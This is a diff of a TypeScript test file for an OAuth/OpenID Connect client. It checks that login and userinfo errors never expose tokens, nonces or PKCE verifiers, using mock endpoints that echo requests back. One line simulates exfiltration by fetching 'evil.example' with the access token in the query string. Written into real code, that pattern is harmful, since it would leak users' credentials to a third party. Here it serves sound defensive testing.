@@ -20,21 +20,27 @@ function expectNoSecretIn(text: string, secrets: readonly string[]): void {
 /** Each makes a login fail while somebody tries to get every secret into the error. */
 const LEAKS: Readonly<Record<string, (ports: World) => Partial<World>>> = {
   'a token endpoint that echoes what it was sent': ({ server }) => {
-    server.answer = (form) =>
-      json(400, { error: 'invalid_grant', error_description: `no: ${form} ${[...form.values()]}` });
+    server.replace('token', ({ body }) => {
+      const values = [...new URLSearchParams(body).values()];
+      return json(400, { error: 'invalid_grant', error_description: `no: ${body} ${values}` });
+    });
     return {};
   },
   'a token endpoint that answers with a page': ({ server }) => {
-    server.answer = (form) => ({ status: 500, headers: { 'content-type': 'text/html' }, body: `<p>${form}</p>` });
+    server.replace('token', ({ body }) => ({
+      status: 500,
+      headers: { 'content-type': 'text/html' },
+      body: `<p>${body}</p>`,
+    }));
     return {};
   },
   'a token response with an ID Token that is refused': ({ server }) => {
-    server.answer = () =>
-      json(200, {
-        access_token: server.keep('at-sentinel'),
-        token_type: 'Bearer',
-        id_token: server.keep('eyJ.sentinel.x'),
-      });
+    server.deviate('wrong_nonce');
+    return {};
+  },
+  'a token response with an ID Token that is none': ({ server }) => {
+    const tokens = { access_token: 'at-sentinel', token_type: 'Bearer', id_token: 'eyJ.sentinel.x' };
+    server.replace('token', () => json(200, tokens));
     return {};
   },
   'a transport whose error quotes the request': () => ({
@@ -70,7 +76,7 @@ describe('an error', () => {
     const { set } = ports.transactionStore;
     ports.transactionStore.set = (key, value) => {
       const { codeVerifier, nonce, state } = JSON.parse(value) as Record<string, string>;
-      for (const secret of [codeVerifier, nonce, state]) if (secret) ports.server.keep(secret);
+      ports.server.keep(codeVerifier, nonce, state);
       return set(key, value);
     };
     const error = await clientOf({ ...ports, ...leak(ports) })
@@ -97,13 +103,13 @@ async function lifeOf(ports: World): Promise<readonly unknown[]> {
   all.push(await client.start(url), await client.start(url), await client.login(), await client.userinfo());
   all.push(await client.fetch('https://api.example/contacts'));
   // Echoes the token in whatever may come back.
-  ports.server.userinfo = (authorization) => ({
+  ports.server.replace('userinfo', ({ headers: { authorization = '' } }) => ({
     status: 429,
     headers: { 'retry-after': authorization, 'www-authenticate': authorization, 'x-ratelimit-reset': authorization },
     body: authorization,
-  });
+  }));
   await client.userinfo().catch(keepError);
-  ports.server.userinfo = (authorization) => json(200, { sub: authorization });
+  ports.server.replace('userinfo', ({ headers }) => json(200, { sub: headers['authorization'] }));
   await client.userinfo().catch(keepError);
   await client.fetch(`https://evil.example/?${await client.accessToken()}`).catch(keepError);
   const [[key = '', text = ''] = []] = ports.sessionStore.entries;
